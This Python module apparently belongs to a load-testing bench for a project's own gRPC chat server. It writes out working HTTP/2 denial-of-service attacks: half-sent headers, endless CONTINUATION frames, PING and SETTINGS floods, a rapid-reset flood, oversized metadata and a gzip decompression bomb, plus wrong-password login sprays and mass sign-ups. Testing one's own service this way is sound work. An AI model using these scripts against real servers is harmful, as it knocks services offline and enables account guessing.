"""Attackers of the gRPC port that need only prepared bytes, as a script for each connection."""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache

from bench.attacks.crowd import Script
from bench.attacks.target import Target
from bench.performance.headers import encode_headers
from bench.performance.http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RESET,
    SETTINGS,
    call_fields,
    call_headers,
    encode_call,
    encode_frame,
    encode_message,
)
from chatbooth_grpc._gen import chatbooth_pb2 as pb

SERVICE = "/chatbooth.v1.ChatService/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
START = PREFACE + encode_frame(SETTINGS, 0, 0, b"") + encode_frame(SETTINGS, ACK, 0, b"")
"""The first bytes of a connection."""
CALLS = 100
"""How many calls a connection has at once. The server allows no more."""

_CONTINUATION = 9
_INITIAL_WINDOW_SIZE = 4
_SETTING = struct.Struct(">HI")
_CANCEL = struct.pack(">I", 8)
# How many small frames are written at once.
_FRAMES = 1_000
_RESETS = 20_000
# The largest frame that every HTTP/2 server takes.
_FRAME_SIZE = 16_384
_BOMB_SIZE = 30 << 20
_BOMBS = 2


def connection(target: Target, number: int) -> Script:  # noqa: ARG001
    """Do nothing after the settings."""
    return Script(target.grpc, START)


def half_headers(target: Target, number: int) -> Script:
    """Send half of a HEADERS frame, or a whole one that announces a CONTINUATION, and no more."""
    headers = _headers(target, "Send")
    half = encode_frame(HEADERS, END_HEADERS, 1, headers)[: len(headers) // 2]
    return Script(target.grpc, START + (half if number % 2 else encode_frame(HEADERS, 0, 1, headers)))


def bodiless_calls(target: Target, number: int) -> Script:  # noqa: ARG001
    """Make calls that never send their request."""
    return Script(target.grpc, START + _begun(_headers(target, "Send", target.token)))


def half_messages(target: Target, number: int) -> Script:  # noqa: ARG001
    """Make calls that send half of their request."""
    half = encode_message(b"x" * 1_000)[:500]
    return Script(target.grpc, START + _begun(_headers(target, "Send", target.token), half))


def slow_requests(target: Target, number: int) -> Script:  # noqa: ARG001
    """Make calls that send one byte of their request a second."""
    begun = _begun(_headers(target, "Send", target.token), encode_message(b"x" * 1_000)[:5])
    bytes_of_all = b"".join(encode_frame(DATA, 0, stream, b"x") for stream in _streams())
    return Script(target.grpc, START + begun, bytes_of_all, pause=1.0)


def idle_send_streams(target: Target, number: int) -> Script:  # noqa: ARG001
    """Open one SendMany that never sends a batch."""
    headers = _headers(target, "SendMany", target.token)
    return Script(target.grpc, START + encode_frame(HEADERS, END_HEADERS, 1, headers))


def resets(target: Target, number: int) -> Script:  # noqa: ARG001
    """Make calls without a token and reset each at once, on one new connection after another."""
    return Script(target.grpc, _resets(_headers(target, "Send")), lasts=0)


def continuations(target: Target, number: int) -> Script:
    """Begin the headers of a call and never end them. Half of the connections send empty frames, half full ones."""
    header = encode_frame(HEADERS, 0, 1, _headers(target, "Send"))
    field = encode_headers([("x-filling", "x" * 1_000)])
    return Script(target.grpc, START + header, encode_frame(_CONTINUATION, 0, 1, field * (number % 2)) * _FRAMES)


def pings(target: Target, number: int) -> Script:
    """Send PING frames as fast as the server takes them. Half of the connections do not read the answers."""
    return Script(target.grpc, START, encode_frame(PING, 0, 0, b"attacker") * _FRAMES, reads=bool(number % 2))


def settings(target: Target, number: int) -> Script:
    """Send SETTINGS frames as fast as the server takes them. Half of the connections do not read the answers."""
    setting = encode_frame(SETTINGS, 0, 0, _SETTING.pack(_INITIAL_WINDOW_SIZE, 1_000))
    return Script(target.grpc, START, setting * _FRAMES, reads=bool(number % 2))


def large_metadata(target: Target, number: int) -> Script:
    """Make calls with metadata just under the 8 KiB that every call may have, or over the 16 KiB that none may have."""
    size = 40_000 if number % 2 else 7_500
    block = encode_headers([*call_fields(target.grpc, SERVICE + "Deliver", target.token), ("x-filling", "x" * size)])
    calls = b"".join(_long_headers(stream, block) for stream in _streams())
    return Script(target.grpc, START + calls, lasts=0.5)


def bombs(target: Target, number: int) -> Script:  # noqa: ARG001
    """Make calls whose request is small, and 30 MiB after it is decompressed."""
    fields = [*call_fields(target.grpc, SERVICE + "Send", target.token), ("grpc-encoding", "gzip")]
    headers, message = encode_headers(fields), _bomb()
    return Script(
        target.grpc, START + b"".join(_long_call(2 * each + 1, headers, message) for each in range(_BOMBS)), lasts=0.5
    )


def log_ins(target: Target, usernames: list[str], source: str) -> Script:
    """Try a wrong password for each of these accounts."""
    headers = _headers(target, "LogIn")
    requests = [pb.LogInRequest(username=name, password="wrong password") for name in usernames]  # noqa: S106
    return Script(
        target.grpc, START + _calls(headers, [each.SerializeToString() for each in requests]), lasts=1.0, source=source
    )


def sign_ups(target: Target, usernames: list[str], source: str) -> Script:
    """Make these accounts."""
    requests = [pb.SignUpRequest(username=name, password="a password") for name in usernames]  # noqa: S106
    messages = [each.SerializeToString() for each in requests]
    return Script(target.grpc, START + _calls(_headers(target, "SignUp"), messages), lasts=1.0, source=source)


def hostile_lists(target: Target, patterns: list[str]) -> Script:
    """List by these patterns, again and again."""
    requests = [pb.ListRequest(pattern=each, page_size=1_000) for each in patterns]
    messages = [each.SerializeToString() for each in requests]
    return Script(target.grpc, START + _calls(_headers(target, "List", target.token), messages), lasts=0.2)


def _headers(target: Target, method: str, token: bytes | None = None) -> bytes:
    return call_headers(target.grpc, SERVICE + method, token)


def _streams() -> range:
    return range(1, 2 * CALLS, 2)


def _begun(headers: bytes, part: bytes = b"") -> bytes:
    """Encode calls that have begun, with a part of their request."""
    data = b"".join(encode_frame(DATA, 0, stream, part) for stream in _streams()) if part else b""
    return b"".join(encode_frame(HEADERS, END_HEADERS, stream, headers) for stream in _streams()) + data


def _calls(headers: bytes, messages: list[bytes]) -> bytes:
    return b"".join(encode_call(2 * number + 1, headers, message) for number, message in enumerate(messages))


@lru_cache
def _resets(headers: bytes) -> bytes:
    frames = [START]
    for stream in range(1, 2 * _RESETS, 2):
        frames.append(encode_call(stream, headers, b""))
        frames.append(encode_frame(RESET, 0, stream, _CANCEL))
    return b"".join(frames)


def _long_headers(stream: int, block: bytes) -> bytes:
    """Encode a call without a request whose header block may need several frames."""
    parts = [block[start : start + _FRAME_SIZE] for start in range(0, len(block), _FRAME_SIZE)]
    kinds = [HEADERS, *[_CONTINUATION] * (len(parts) - 1)]
    flags = [*[0] * (len(parts) - 1), END_HEADERS]
    frames = b"".join(encode_frame(*each[:2], stream, each[2]) for each in zip(kinds, flags, parts, strict=True))
    return frames + encode_frame(DATA, END_STREAM, stream, encode_message(b""))


def _long_call(stream: int, headers: bytes, message: bytes) -> bytes:
    """Encode a call whose message has its prefix already, and may need several frames."""
    starts = range(0, len(message), _FRAME_SIZE)
    data = [encode_frame(DATA, 0, stream, message[start : start + _FRAME_SIZE]) for start in starts]
    end = encode_frame(DATA, END_STREAM, stream, b"")
    return encode_frame(HEADERS, END_HEADERS, stream, headers) + b"".join(data) + end


@lru_cache
def _bomb() -> bytes:
    """Return a message with the prefix that says that it is compressed."""
    compressor = zlib.compressobj(9, wbits=31)
    compressed = compressor.compress(bytes(_BOMB_SIZE)) + compressor.flush()
    return b"\1" + struct.pack(">I", len(compressed)) + compressed
